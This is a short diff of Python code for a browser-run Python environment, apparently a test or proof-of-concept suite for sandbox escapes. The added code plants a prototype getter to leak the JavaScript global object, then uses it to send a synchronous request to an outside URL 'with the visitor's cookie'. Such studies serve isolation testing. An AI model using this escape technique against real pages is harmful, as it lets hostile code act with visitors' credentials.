@@ -47,10 +47,22 @@ def _define(target: JsProxy, name: str) -> list[object]:
     return leaked
 
 
-def a_getter_on_the_prototype_of_all() -> object:
+def _leaked_global() -> JsProxy:
     leaked = _define(_object().prototype, "devicePixelRatio")
     ctypes.PyDLL(None).emscripten_get_device_pixel_ratio()
     return leaked[0]
+
+
+def a_getter_on_the_prototype_of_all() -> object:
+    return _leaked_global()
+
+
+def the_global_asks_the_host() -> object:
+    """With the visitor's cookie; it waits for the answer, so that the host has seen it."""
+    request = _leaked_global().XMLHttpRequest.new()
+    request.open("GET", URL, False)
+    request.send(None)
+    return request.responseText
 
 
 def a_prototype_is_changed() -> object:
